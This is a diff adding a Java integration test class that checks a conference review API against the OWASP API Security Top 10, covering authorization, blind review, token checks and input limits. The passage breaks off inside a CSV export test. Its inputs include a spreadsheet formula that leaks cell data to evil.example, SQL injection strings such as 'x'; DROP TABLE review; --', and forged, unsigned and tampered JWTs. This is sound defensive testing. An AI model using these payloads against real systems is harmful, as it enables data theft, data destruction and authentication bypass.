@@ -1,0 +1,831 @@
+package dev.lectern.review.security;
+
+import com.fasterxml.jackson.core.exc.StreamConstraintsException;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.lectern.infra.TestInfrastructure;
+import dev.lectern.infra.Tokens;
+import dev.lectern.review.Stream;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.path.json.JsonPath;
+import jakarta.inject.Inject;
+import io.restassured.response.Response;
+import jakarta.ws.rs.HttpMethod;
+import org.apache.kafka.clients.consumer.ConsumerConfig;
+import org.apache.kafka.clients.consumer.ConsumerRecord;
+import org.apache.kafka.clients.consumer.KafkaConsumer;
+import org.apache.kafka.common.header.Header;
+import org.apache.kafka.common.serialization.StringDeserializer;
+import org.junit.jupiter.api.Test;
+
+import java.io.IOException;
+import java.lang.annotation.Annotation;
+import java.lang.reflect.Method;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.HashMap;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Properties;
+import java.util.Set;
+import java.util.TreeSet;
+import java.util.UUID;
+
+import static io.restassured.RestAssured.given;
+import static org.awaitility.Awaitility.await;
+import static org.hamcrest.Matchers.equalTo;
+import static org.hamcrest.Matchers.hasItem;
+import static org.hamcrest.Matchers.not;
+import static org.hamcrest.Matchers.nullValue;
+import static org.hamcrest.Matchers.startsWith;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * review-service against the OWASP API Security Top 10 (2023), one or more tests per item that applies,
+ * over real PostgreSQL and Kafka. The speakers' identity is the asset: every response a reviewer can get
+ * is read raw and searched for it.
+ */
+@QuarkusTest
+class OwaspApiTop10Test {
+
+    /** The API's own mapper, with the limits of {@code web.JsonLimits}. */
+    @Inject
+    ObjectMapper mapper;
+
+    static final String PROBLEM = "application/problem+json";
+    static final String FORMULA_TITLE = "=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"Open\\\")";
+
+    // ---- API1: broken object level authorization --------------------------------------------------------
+
+    @Test
+    void api1_reviewerCannotReadOrReviewAnotherReviewersAssignmentAndGetsTheAnswerOfAnUnknownId() {
+        Scenario s = Scenario.create("api1-bola");
+        given().header("Authorization", s.token("rb")).contentType("application/json")
+                .body(review(2, 2, "rb's own opinion")).put("/api/me/reviews/" + s.p2).then().statusCode(200);
+
+        String unknown = UUID.randomUUID().toString();
+        String ra = s.token("ra");
+        sameAnswer(given().header("Authorization", ra).get("/api/me/assignments/" + s.p2), s.p2,
+                given().header("Authorization", ra).get("/api/me/assignments/" + unknown), unknown);
+        sameAnswer(given().header("Authorization", ra).contentType("application/json").body(review(5, 5, "ra overwrites"))
+                        .put("/api/me/reviews/" + s.p2), s.p2,
+                given().header("Authorization", ra).contentType("application/json").body(review(5, 5, "ra overwrites"))
+                        .put("/api/me/reviews/" + unknown), unknown);
+        given().header("Authorization", ra).get("/api/me/assignments").then().statusCode(200)
+                .body("proposal.id", not(hasItem(s.p2)));
+        given().header("Authorization", ra).get("/api/me/assignments?event=" + s.slug).then().statusCode(200)
+                .body("proposal.id", not(hasItem(s.p2)));
+
+        // rb's review is as rb wrote it.
+        given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + s.p2).then().statusCode(200)
+                .body("review.comment", equalTo("rb's own opinion")).body("review.scores.relevance", equalTo(2));
+
+        // A reviewer role for another event opens nothing here, not even their own assignments.
+        String elsewhere = bearer(s.subject("ra"), "reviewer:" + s.slug + "-other");
+        sameAnswer(given().header("Authorization", elsewhere).get("/api/me/assignments/" + s.p1), s.p1,
+                given().header("Authorization", elsewhere).get("/api/me/assignments/" + unknown), unknown);
+        given().header("Authorization", elsewhere).get("/api/me/assignments").then().statusCode(200)
+                .body("size()", equalTo(0));
+    }
+
+    @Test
+    void api1_reviewerNeverSeesOtherReviewersReviewsOrScoresBeforeOrAfterSubmittingTheirOwn() {
+        Scenario s = Scenario.create("api1-others");
+        String secret = "RB-SECRET-" + s.slug;
+        given().header("Authorization", s.token("rb")).contentType("application/json")
+                .body(review(1, 1, secret)).put("/api/me/reviews/" + s.p1).then().statusCode(200);
+
+        String ra = s.token("ra");
+        List<String> before = List.of(
+                given().header("Authorization", ra).get("/api/me/assignments").then().statusCode(200).extract().asString(),
+                given().header("Authorization", ra).get("/api/me/assignments/" + s.p1).then().statusCode(200)
+                        .body("review", nullValue()).extract().asString(),
+                given().header("Authorization", ra).get("/api/me/progress").then().statusCode(200).extract().asString());
+        String mine = given().header("Authorization", ra).contentType("application/json").body(review(4, 3, "ra's view"))
+                .put("/api/me/reviews/" + s.p1).then().statusCode(200).body("comment", equalTo("ra's view"))
+                .extract().asString();
+        List<String> after = List.of(mine,
+                given().header("Authorization", ra).get("/api/me/assignments").then().statusCode(200).extract().asString(),
+                given().header("Authorization", ra).get("/api/me/assignments/" + s.p1).then().statusCode(200)
+                        .body("review.comment", equalTo("ra's view")).body("review.scores.relevance", equalTo(4))
+                        .extract().asString());
+        for (String body : concat(before, after)) {
+            assertFalse(body.contains(secret), "another reviewer's comment: " + body);
+            assertFalse(body.contains(s.subject("rb")), "another reviewer named: " + body);
+            assertFalse(body.contains(s.reviewerIds.get("rb")), "another reviewer's id: " + body);
+        }
+    }
+
+    @Test
+    void api1_conflictedReviewerLosesTheProposalAndItsReviewsWhenAConflictAppearsAfterAssignment() {
+        Scenario s = Scenario.create("api1-conflict");
+        String othersComment = "RA-ON-P3-" + s.slug;
+        given().header("Authorization", s.token("ra")).contentType("application/json")
+                .body(review(3, 3, othersComment)).put("/api/me/reviews/" + s.p3).then().statusCode(200);
+        String rc = s.token("rc");
+        given().header("Authorization", rc).get("/api/me/assignments/" + s.p3).then().statusCode(200);
+
+        // The organizer records that rc is conflicted with p3's speaker (declared after assignment).
+        given().header("Authorization", organizer()).contentType("application/json")
+                .body(s.reviewerBody("rc", List.of(Scenario.SPEAKERS.get(2).get("email"))))
+                .put("/api/events/" + s.slug + "/reviewers/" + s.reviewerIds.get("rc")).then().statusCode(200);
+        assertConflictedReviewerLosesTheProposal(s, rc, s.p3, othersComment);
+
+        // The speaker of p1 adds a co-speaker from rb's organisation: rb is conflicted from this version on.
+        given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + s.p1).then().statusCode(200);
+        Stream.proposal("updated", s.p1, s.slug, 2, "SUBMITTED", FORMULA_TITLE, "ospo-experience",
+                List.of(Scenario.SPEAKERS.get(0), Map.of("name", "Co Speaker", "email", "co@speaker.test",
+                        "affiliation", "Neutral University rb")));
+        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
+                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals/" + s.p1)
+                        .then().statusCode(200).body("version", equalTo(2)));
+        assertConflictedReviewerLosesTheProposal(s, s.token("rb"), s.p1, "no comment on p1");
+
+        // The organizer still sees both assignments, reported as conflicts to resolve.
+        given().header("Authorization", organizer()).post("/api/events/" + s.slug + "/assignments")
+                .then().statusCode(200).body("conflictedExisting.proposalId", hasItem(s.p3))
+                .body("conflictedExisting.proposalId", hasItem(s.p1));
+    }
+
+    private static void assertConflictedReviewerLosesTheProposal(Scenario s, String token, String proposal, String othersText) {
+        String unknown = UUID.randomUUID().toString();
+        sameAnswer(given().header("Authorization", token).get("/api/me/assignments/" + proposal), proposal,
+                given().header("Authorization", token).get("/api/me/assignments/" + unknown), unknown);
+        sameAnswer(given().header("Authorization", token).contentType("application/json").body(review(5, 5, "x"))
+                        .put("/api/me/reviews/" + proposal), proposal,
+                given().header("Authorization", token).contentType("application/json").body(review(5, 5, "x"))
+                        .put("/api/me/reviews/" + unknown), unknown);
+        String list = given().header("Authorization", token).get("/api/me/assignments").then().statusCode(200)
+                .body("proposal.id", not(hasItem(proposal))).extract().asString();
+        assertFalse(list.contains(othersText), list);
+    }
+
+    @Test
+    void api1_organizerOfOneEventReachesNoObjectOfAnotherThroughTheirOwnEventsPaths() {
+        Scenario mine = Scenario.create("api1-mine");
+        Scenario theirs = Scenario.create("api1-theirs");
+        String organizerOfMine = bearer("org@" + mine.slug, "organizer:" + mine.slug);
+        String base = "/api/events/" + mine.slug;
+        String unknown = UUID.randomUUID().toString();
+        for (String path : List.of("/proposals/%s", "/proposals/%s?identities=true", "/proposals/%s/redaction",
+                "/reviewers/%s")) {
+            String foreign = path.contains("reviewers") ? theirs.reviewerIds.get("ra") : theirs.p1;
+            sameAnswer(given().header("Authorization", organizerOfMine).get(base + path.formatted(foreign)), foreign,
+                    given().header("Authorization", organizerOfMine).get(base + path.formatted(unknown)), unknown);
+        }
+        sameAnswer(given().header("Authorization", organizerOfMine).contentType("application/json")
+                        .body(Map.of("title", "Redacted", "abstract", "Redacted")).put(base + "/proposals/" + theirs.p1 + "/redaction"),
+                theirs.p1,
+                given().header("Authorization", organizerOfMine).contentType("application/json")
+                        .body(Map.of("title", "Redacted", "abstract", "Redacted")).put(base + "/proposals/" + unknown + "/redaction"),
+                unknown);
+        sameAnswer(given().header("Authorization", organizerOfMine).delete(base + "/assignments/" + theirs.assignmentIds.get(0)),
+                theirs.assignmentIds.get(0),
+                given().header("Authorization", organizerOfMine).delete(base + "/assignments/" + unknown), unknown);
+        sameAnswer(given().header("Authorization", organizerOfMine).delete(base + "/reviewers/" + theirs.reviewerIds.get("rc")),
+                theirs.reviewerIds.get("rc"),
+                given().header("Authorization", organizerOfMine).delete(base + "/reviewers/" + unknown), unknown);
+        // Their proposal with their reviewer, assigned through my event: not found, and nothing assigned.
+        given().header("Authorization", organizerOfMine).contentType("application/json")
+                .body(Map.of("proposalId", theirs.p2, "reviewerId", theirs.reviewerIds.get("ra")))
+                .post(base + "/assignments/manual").then().statusCode(404).contentType(PROBLEM);
+        given().header("Authorization", organizer()).get("/api/events/" + theirs.slug + "/assignments")
+                .then().statusCode(200).body("size()", equalTo(theirs.assignmentIds.size()));
+        given().header("Authorization", organizer()).get("/api/events/" + theirs.slug + "/reviewers/" + theirs.reviewerIds.get("rc"))
+                .then().statusCode(200);
+    }
+
+    // ---- API2: broken authentication --------------------------------------------------------------------
+
+    @Test
+    void api2_everyKindOfBadTokenIsRefusedWith401OnReviewerAndOrganizerEndpoints() {
+        long now = Instant.now().getEpochSecond();
+        Tokens keys = TestInfrastructure.tokens();
+        String rs256 = "{\"alg\":\"RS256\",\"typ\":\"JWT\"}";
+        String good = keys.sign(rs256, claims(Tokens.ISSUER, Tokens.AUDIENCE, now, now + 3600, null));
+        String[] parts = good.split("\\.");
+        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
+        String forgedClaims = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8)
+                .replace("mallory@example.com", "alice@example.com");
+        Map<String, String> bad = new LinkedHashMap<>();
+        bad.put("expired", keys.sign(rs256, claims(Tokens.ISSUER, Tokens.AUDIENCE, now - 7200, now - 3600, null)));
+        bad.put("not yet valid", keys.sign(rs256, claims(Tokens.ISSUER, Tokens.AUDIENCE, now, now + 7200, now + 3600)));
+        bad.put("wrong issuer", keys.sign(rs256, claims("https://evil.example.com", Tokens.AUDIENCE, now, now + 3600, null)));
+        bad.put("wrong audience", keys.sign(rs256, claims(Tokens.ISSUER, "another-app", now, now + 3600, null)));
+        bad.put("unsigned", b64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8))
+                + "." + parts[1] + ".");
+        bad.put("tampered", parts[0] + "." + b64.encodeToString(forgedClaims.getBytes(StandardCharsets.UTF_8)) + "." + parts[2]);
+        bad.put("another key", Tokens.generate().mint("mallory@example.com", List.of("organizer", "reviewer")));
+        bad.put("garbage", "not-a-jwt");
+        for (Map.Entry<String, String> token : bad.entrySet()) {
+            for (String path : List.of("/api/me/assignments", "/api/events/any-event/ranking", "/api/events/any-event/proposals")) {
+                given().header("Authorization", "Bearer " + token.getValue()).get(path)
+                        .then().statusCode(401).contentType(PROBLEM).body("code", equalTo("unauthenticated"));
+            }
+        }
+        // The well-signed one is accepted: the refusals above are about what was wrong with each token.
+        given().header("Authorization", "Bearer " + good).get("/api/me/assignments").then().statusCode(200);
+        given().get("/api/me/assignments").then().statusCode(401).contentType(PROBLEM);
+    }
+
+    // ---- API3: broken object property level authorization ------------------------------------------------
+
+    @Test
+    void api3_reviewersResponsesNeverNameASpeakerWhileBlindNotThroughListsSearchSortingErrorsRankingOrExports() {
+        Scenario s = Scenario.create("api3-blind");
+        List<String> seen = new ArrayList<>();
+        for (String reviewer : List.of("ra", "rb", "rc")) {
+            String token = s.token(reviewer);
+            for (String query : List.of("", "?event=" + s.slug, "?event=" + s.slug + "&sort=speaker&q=Wang",
+                    "?q=" + s.identities().get(1) + "&search=Secretive&sort=email", "?event=no-such-event")) {
+                seen.add(given().header("Authorization", token).get("/api/me/assignments" + query)
+                        .then().statusCode(200).extract().asString());
+            }
+            List<String> ids = given().header("Authorization", token).get("/api/me/assignments")
+                    .then().extract().path("proposal.id");
+            assertFalse(ids.isEmpty(), reviewer + " has assignments");
+            for (String id : ids) {
+                seen.add(given().header("Authorization", token).get("/api/me/assignments/" + id + "?identities=true")
+                        .then().statusCode(200).extract().asString());
+                seen.add(given().header("Authorization", token).header("Accept-Language", "zh").contentType("application/json")
+                        .body(Map.of("scores", Map.of("relevance", 9), "confidence", 3))
+                        .put("/api/me/reviews/" + id).then().statusCode(400).contentType(PROBLEM).extract().asString());
+                seen.add(given().header("Authorization", token).contentType("application/json")
+                        .body("{\"scores\":{\"relevance\":4,\"clarity\":4},\"confidence\":3,\"speakers\":[]}")
+                        .put("/api/me/reviews/" + id).then().statusCode(400).contentType(PROBLEM).extract().asString());
+                seen.add(given().header("Authorization", token).contentType("application/json").body(review(4, 4, "fine"))
+                        .put("/api/me/reviews/" + id).then().statusCode(200).extract().asString());
+            }
+            seen.add(given().header("Authorization", token).get("/api/me/progress").then().statusCode(200).extract().asString());
+            seen.add(given().header("Authorization", token).get("/api/me/assignments/" + UUID.randomUUID())
+                    .then().statusCode(404).extract().asString());
+            // Organizer views, exports and the ranking, with and without identities: refused, and the refusal names no one.
+            for (String path : List.of("/proposals", "/proposals?identities=true", "/proposals/" + s.p1 + "?identities=true",
+                    "/ranking", "/ranking?identities=true", "/ranking?format=csv&identities=true", "/selection?format=csv",
+                    "/identity-flags", "/reviewers", "/assignments", "/progress", "/decisions/summary",
+                    "/proposals/" + s.p1 + "/redaction")) {
+                seen.add(given().header("Authorization", token).get("/api/events/" + s.slug + path)
+                        .then().statusCode(403).contentType(PROBLEM).extract().asString());
+            }
+        }
+        assertNoIdentity(seen, s.identities());
+
+        // While blind, the organizer's own ranking and exports do not name speakers either unless asked.
+        List<String> organizerBlind = List.of(
+                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking")
+                        .then().statusCode(200).extract().asString(),
+                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking?format=csv")
+                        .then().statusCode(200).extract().asString(),
+                given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/proposals")
+                        .then().statusCode(200).extract().asString());
+        // (p2's title names its speaker: organizers read titles as written, so only what the text does not say is checked.)
+        assertNoIdentity(organizerBlind, List.of("Wang Xiaoming", "Secretive", "Qian Duoduo", "Quiet Holdings", "speaker.test"));
+        String named = given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking?identities=true")
+                .then().statusCode(200).extract().asString();
+        assertTrue(named.contains("Wang Xiaoming") && named.contains("speaker.test"),
+                "identities=true does name them, so the checks above can fail");
+    }
+
+    @Test
+    void api3_reviewBodyCannotSetItsReviewerProposalIdOrComputedFieldsAndChangesNothingWhenItTries() {
+        Scenario s = Scenario.create("api3-mass");
+        given().header("Authorization", s.token("rb")).contentType("application/json")
+                .body(review(2, 2, "rb wrote this")).put("/api/me/reviews/" + s.p1).then().statusCode(200);
+        String ra = s.token("ra");
+        Map<String, Object> extras = new LinkedHashMap<>();
+        extras.put("reviewerId", s.reviewerIds.get("rb"));
+        extras.put("proposalId", s.p2);
+        extras.put("weightedScore", 5.0);
+        extras.put("id", UUID.randomUUID().toString());
+        extras.put("version", 99);
+        extras.put("createdAt", "2020-01-01T00:00:00Z");
+        extras.put("event", "another-event");
+        for (Map.Entry<String, Object> extra : extras.entrySet()) {
+            Map<String, Object> body = new HashMap<>(review(5, 5, "ra tries " + extra.getKey()));
+            body.put(extra.getKey(), extra.getValue());
+            given().header("Authorization", ra).contentType("application/json").body(body)
+                    .put("/api/me/reviews/" + s.p1).then().statusCode(400).contentType(PROBLEM)
+                    .body("errors[0].field", equalTo(extra.getKey())).body("errors[0].code", equalTo("unknown-field"));
+        }
+        given().header("Authorization", ra).get("/api/me/assignments/" + s.p1).then().statusCode(200)
+                .body("review", nullValue());
+        given().header("Authorization", s.token("rb")).get("/api/me/assignments/" + s.p1).then().statusCode(200)
+                .body("review.comment", equalTo("rb wrote this")).body("review.scores.relevance", equalTo(2));
+        // rb's scores are rb's: the ranking still counts one review for p1, with rb's score.
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/ranking?key=raw")
+                .then().statusCode(200)
+                .body("proposals.find { it.proposalId == '" + s.p1 + "' }.reviewCount", equalTo(1))
+                .body("proposals.find { it.proposalId == '" + s.p1 + "' }.weightedMean", equalTo(2.0f));
+
+        // Organizer bodies: ids and status are not the caller's to set either.
+        given().header("Authorization", organizer()).contentType("application/json")
+                .body(Map.of("proposalId", s.p2, "reviewerId", s.reviewerIds.get("ra"), "status", "CANCELLED", "id", UUID.randomUUID().toString()))
+                .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(400).contentType(PROBLEM);
+        Map<String, Object> reviewer = new HashMap<>(s.reviewerBody("ra", List.of()));
+        reviewer.put("id", s.reviewerIds.get("rb"));
+        given().header("Authorization", organizer()).contentType("application/json").body(reviewer)
+                .put("/api/events/" + s.slug + "/reviewers/" + s.reviewerIds.get("ra")).then().statusCode(400)
+                .body("errors[0].field", equalTo("id"));
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/reviewers/" + s.reviewerIds.get("rb"))
+                .then().statusCode(200).body("subject", equalTo(s.subject("rb")));
+    }
+
+    // ---- API4: unrestricted resource consumption ---------------------------------------------------------
+
+    @Test
+    void api4_oversizedNestedAndBadlyEncodedBodiesAreRefusedWithProblemsNot500() {
+        Scenario s = Scenario.create("api4-limits");
+        String ra = s.token("ra");
+        String path = "/api/me/reviews/" + s.p1;
+        String huge = "{\"comment\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}";
+        given().header("Authorization", ra).contentType("application/json").body(huge).put(path)
+                .then().statusCode(413).contentType(PROBLEM).body("code", equalTo("payload-too-large"));
+        given().header("Authorization", ra).header("Accept-Language", "zh").contentType("application/json").body(huge)
+                .put("/api/events/" + s.slug + "/review-settings")
+                .then().statusCode(413).contentType(PROBLEM).body("title", equalTo("请求体过大"));
+
+        String nested = "[".repeat(5000) + "]".repeat(5000);
+        // Typed bodies stop at the first token of the wrong type; the mapper's depth limit is behind that.
+        given().header("Authorization", ra).contentType("application/json").body("{\"comment\":" + nested + "}").put(path)
+                .then().statusCode(400).contentType(PROBLEM)
+                .body("code", org.hamcrest.Matchers.oneOf("json-too-complex", "validation-failed"));
+        assertThrows(StreamConstraintsException.class, () -> mapper.readTree("{\"a\":" + "[".repeat(40) + "]".repeat(40) + "}"));
+        given().header("Authorization", organizer()).contentType("application/json")
+                .body("{\"criteria\":" + nested + "}").put("/api/events/" + s.slug + "/review-settings")
+                // Refused as too deep, or earlier as the wrong type: never parsed to the bottom, never a 500.
+                .then().statusCode(400).contentType(PROBLEM)
+                .body("code", org.hamcrest.Matchers.oneOf("json-too-complex", "validation-failed"));
+
+        // Otherwise a valid review: if the bad bytes were silently replaced, it would be stored (200).
+        byte[] latin1 = "{\"comment\":\"bad \u00ff\u00fe bytes\",\"scores\":{\"relevance\":3,\"clarity\":3},\"confidence\":3}"
+                .getBytes(StandardCharsets.ISO_8859_1);
+        given().header("Authorization", ra).contentType("application/json; charset=UTF-8").body(latin1).put(path)
+                .then().statusCode(400).contentType(PROBLEM)
+                .body("code", org.hamcrest.Matchers.oneOf("invalid-utf8", "invalid-json"));
+
+        Map<String, Integer> tooManyScores = new HashMap<>();
+        for (int i = 0; i < 51; i++) {
+            tooManyScores.put("c" + i, 1);
+        }
+        given().header("Authorization", ra).contentType("application/json")
+                .body(Map.of("scores", tooManyScores, "confidence", 3)).put(path)
+                .then().statusCode(400).contentType(PROBLEM).body("errors[0].field", equalTo("scores"));
+        given().header("Authorization", ra).contentType("application/json")
+                .body(Map.of("scores", Map.of("relevance", 3, "clarity", 3), "confidence", 3, "comment", "长".repeat(20001)))
+                .put(path).then().statusCode(400).contentType(PROBLEM).body("errors[0].field", equalTo("comment"));
+        given().header("Authorization", ra).contentType("application/json")
+                .body("{\"scores\":{\"relevance\":1" + "0".repeat(200) + ",\"clarity\":3},\"confidence\":3}").put(path)
+                .then().statusCode(400).contentType(PROBLEM);
+        // Nothing was half-written.
+        given().header("Authorization", ra).get("/api/me/assignments/" + s.p1).then().statusCode(200).body("review", nullValue());
+    }
+
+    // ---- API5: broken function level authorization -------------------------------------------------------
+
+    @Test
+    void api5_everyRouteRefusesTheAnonymousTheSpeakerTheWrongRoleAndTheOrganizerOfAnotherEvent() throws IOException {
+        Scenario s = Scenario.create("api5-bfla");
+        String speaker = bearer("speaker-" + s.slug + "@speaker.test", "speaker");
+        String reviewerHere = s.token("ra");
+        String organizerElsewhere = bearer("org@" + s.slug, "organizer:" + s.slug + "-elsewhere");
+        String reviewerElsewhere = bearer("multi@" + s.slug, "reviewer:" + s.slug + "-elsewhere");
+        Set<String> operations = served();
+        assertTrue(operations.size() >= 25, operations.toString());
+        int organizerRoutes = 0;
+        for (String operation : operations) {
+            String[] parts = operation.split(" ", 2);
+            String path = parts[1].replace("{event}", s.slug).replace("{id}", s.p1).replace("{proposalId}", s.p1);
+            boolean reviewerRoute = parts[1].startsWith("/api/me/");
+            Object body = validBody(operation, s);
+            expect(parts[0], path, null, body, 401, operation);
+            expect(parts[0], path, speaker, body, 403, operation);
+            if (reviewerRoute) {
+                expect(parts[0], path, organizer(), body, 403, operation);
+                expect(parts[0], path, organizerElsewhere, body, 403, operation);
+            } else {
+                organizerRoutes++;
+                expect(parts[0], path, reviewerHere, body, 403, operation);
+                expect(parts[0], path, organizerElsewhere, body, 403, operation);
+                expect(parts[0], path, reviewerElsewhere, body, 403, operation);
+            }
+        }
+        assertTrue(organizerRoutes >= 20, "organizer routes swept: " + organizerRoutes);
+        // The refusals changed nothing: no reviewer, assignment or settings change came through.
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/reviewers")
+                .then().statusCode(200).body("size()", equalTo(3));
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/assignments")
+                .then().statusCode(200).body("size()", equalTo(s.assignmentIds.size()));
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/review-settings")
+                .then().statusCode(200).body("reviewsPerProposal", equalTo(2));
+    }
+
+    private static void expect(String method, String path, String token, Object body, int status, String operation) {
+        var request = given();
+        if (token != null) {
+            request = request.header("Authorization", token);
+        }
+        if (body != null) {
+            request = request.contentType("application/json").body(body);
+        }
+        Response response = request.request(method, path);
+        assertEquals(status, response.statusCode(), operation + " as " + (token == null ? "anonymous" : "caller")
+                + ": " + response.asString());
+        assertTrue(response.contentType().startsWith(PROBLEM), operation + ": " + response.contentType());
+    }
+
+    /** A body each write operation would accept from the right caller, so a refusal is about who calls. */
+    private static Object validBody(String operation, Scenario s) {
+        return switch (operation) {
+            case "PUT /api/events/{event}/review-settings" -> settings(1, "OPEN");
+            case "POST /api/events/{event}/reviewers", "PUT /api/events/{event}/reviewers/{id}" ->
+                    s.reviewerBody("rd", List.of());
+            case "POST /api/events/{event}/assignments/manual" ->
+                    Map.of("proposalId", s.p2, "reviewerId", s.reviewerIds.get("ra"));
+            case "PUT /api/events/{event}/proposals/{id}/redaction" -> Map.of("title", "A talk", "abstract", "An abstract");
+            case "POST /api/events/{event}/selection" -> Map.of("capacity", Map.of("tracks", Map.of("ospo-experience", 1)));
+            case "PUT /api/me/reviews/{proposalId}" -> review(3, 3, "ok");
+            default -> null;
+        };
+    }
+
+    // ---- API6: unrestricted access to sensitive business flows -------------------------------------------
+
+    @Test
+    void api6_reviewersCannotChooseWhatTheyReviewNorSelectOrPublishAndClosedReviewsStayClosed() {
+        Scenario s = Scenario.create("api6-flows");
+        String rc = s.token("rc");
+        // rc would like to review p1 (not assigned): neither the manual assignment nor a review gets through.
+        given().header("Authorization", rc).contentType("application/json")
+                .body(Map.of("proposalId", s.p1, "reviewerId", s.reviewerIds.get("rc")))
+                .post("/api/events/" + s.slug + "/assignments/manual").then().statusCode(403);
+        given().header("Authorization", rc).contentType("application/json").body(review(5, 5, "mine now"))
+                .put("/api/me/reviews/" + s.p1).then().statusCode(404);
+        given().header("Authorization", rc).post("/api/events/" + s.slug + "/assignments").then().statusCode(403);
+        given().header("Authorization", rc).contentType("application/json")
+                .body(Map.of("capacity", Map.of("tracks", Map.of("ospo-experience", 3))))
+                .post("/api/events/" + s.slug + "/selection").then().statusCode(403);
+        given().header("Authorization", rc).post("/api/events/" + s.slug + "/decisions/publish").then().statusCode(403);
+        given().header("Authorization", organizer()).get("/api/events/" + s.slug + "/assignments")
+                .then().statusCode(200).body("findAll { it.reviewerId == '" + s.reviewerIds.get("rc") + "' }.proposalId",
+                        equalTo(List.of(s.p3)));
+
+        // Once the organizer closes the phase, a review cannot be written or changed.
+        given().header("Authorization", rc).contentType("application/json").body(review(4, 4, "before closing"))
+                .put("/api/me/reviews/" + s.p3).then().statusCode(200);
+        given().header("Authorization", organizer()).contentType("application/json").body(settings(2, "CLOSED"))
+                .put("/api/events/" + s.slug + "/review-settings").then().statusCode(200);
+        given().header("Authorization", rc).contentType("application/json").body(review(1, 1, "after closing"))
+                .put("/api/me/reviews/" + s.p3).then().statusCode(409).contentType(PROBLEM);
+        given().header("Authorization", rc).get("/api/me/assignments/" + s.p3).then().statusCode(200)
+                .body("review.comment", equalTo("before closing"));
+    }
+
+    // ---- API8: security misconfiguration -----------------------------------------------------------------
+
+    @Test
+    void api8_errorBodiesNeverCarryStackTracesClassNamesOrSql() {
+        Scenario s = Scenario.create("api8-errors");
+        String ra = s.token("ra");
+        List<Response> errors = new ArrayList<>();
+        for (String language : List.of("en", "zh")) {
+            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("application/json")
+                    .body("{\"scores\": ").put("/api/me/reviews/" + s.p1));
+            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("application/json")
+                    .body("{\"scores\":\"many\",\"confidence\":\"high\"}").put("/api/me/reviews/" + s.p1));
+            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("application/json")
+                    .body("{\"scores\":{\"relevance\":1.5},\"confidence\":3}").put("/api/me/reviews/" + s.p1));
+            errors.add(given().header("Authorization", ra).header("Accept-Language", language).contentType("text/plain")
+                    .body("scores=5").put("/api/me/reviews/" + s.p1));
+            errors.add(given().header("Authorization", ra).header("Accept-Language", language)
+                    .get("/api/me/assignments/not-a-uuid"));
+            errors.add(given().header("Authorization", ra).header("Accept-Language", language)
+                    .get("/api/me/assignments/'%20OR%201=1--"));
+            errors.add(given().header("Authorization", ra).header("Accept-Language", language)
+                    .delete("/api/me/assignments"));
+            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
+                    .get("/api/events/" + s.slug + "/ranking?key=' OR 1=1 --"));
+            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
+                    .get("/api/events/" + s.slug + "/ranking?format=xlsx"));
+            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
+                    .contentType("application/json").body(Map.of("criteria", List.of(), "reviewsPerProposal", 0, "phase", "HALF_OPEN"))
+                    .put("/api/events/" + s.slug + "/review-settings"));
+            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
+                    .contentType("application/json").body(Map.of("proposalId", "x'; DROP TABLE review; --", "reviewerId", s.reviewerIds.get("ra")))
+                    .post("/api/events/" + s.slug + "/assignments/manual"));
+            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
+                    .contentType("application/json").body(Map.of("proposalId", s.p1, "reviewerId", s.reviewerIds.get("ra")))
+                    .post("/api/events/" + s.slug + "/assignments/manual"));
+            errors.add(given().header("Authorization", organizer()).header("Accept-Language", language)
+                    .get("/api/events/" + s.slug + "'--/ranking"));
+        }
+        for (Response error : errors) {
+            String body = error.asString();
+            assertTrue(error.statusCode() >= 400 && error.statusCode() < 500, error.statusCode() + ": " + body);
+            assertTrue(error.contentType().startsWith(PROBLEM), error.contentType() + ": " + body);
+            for (String internal : List.of("Exception", "exception", "java.", "jakarta.", "org.hibernate", "jackson",
+                    "at dev.lectern", "\tat ", "SELECT ", "INSERT ", "constraint", "postgres", "SQL", "psql", "quarkus")) {
+                assertFalse(body.contains(internal), "'" + internal + "' in " + body);
+            }
+            assertNotNull(JsonPath.from(body).getString("title"), body);
+        }
+        assertTrue(errors.stream().anyMatch(r -> r.statusCode() == 409), "the repeat assignment is a 409 too");
+    }
+
+    @Test
+    void api8_theRankingCsvExportOpensFormulasAsText() {
+        Scenario s = Scenario.create("api8-csv");
+        s.reviewEverything();
+        for (String format : List.of("?format=csv", "?format=csv&identities=true")) {
